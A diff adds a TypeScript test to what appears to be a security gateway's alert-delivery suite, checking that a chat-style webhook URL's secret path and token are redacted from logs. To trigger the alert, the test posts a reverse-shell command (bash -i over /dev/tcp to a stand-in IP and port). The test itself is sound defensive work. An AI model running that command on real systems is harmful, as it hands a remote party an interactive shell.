@@ -186,4 +186,26 @@ describe('alert delivery', () => {
       receiver.close();
     }
   });
+
+  it('keeps the secret part of a chat-style webhook URL out of the logs', async () => {
+    const paths: string[] = [];
+    const receiver = createServer((req, res) => {
+      paths.push(req.url ?? '');
+      req.resume().on('end', () => res.writeHead(404).end());
+    });
+    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
+    const origin = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
+    const d = await startDaemon({ env: { MODE: 'alert', ALERT_WEBHOOK_URL: `${origin}/services/T0/B0/hook-s3cret?token=q-s3cret` } });
+    try {
+      await d.post(bash('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', { session_id: 'leak' }));
+      const rejected = await d.waitLog('alert webhook rejected the alert; not retrying');
+      expect(paths).toEqual(['/services/T0/B0/hook-s3cret?token=q-s3cret']);
+      expect(rejected).toMatchObject({ url: `${origin}/<redacted>`, status: 404 });
+      expect(d.logs.find((l) => l.msg === 'proxilion gateway listening')).toMatchObject({ alert_webhook: `${origin}/<redacted>` });
+      expect(JSON.stringify(d.logs)).not.toContain('s3cret');
+    } finally {
+      await d.stop();
+      receiver.close();
+    }
+  });
 });
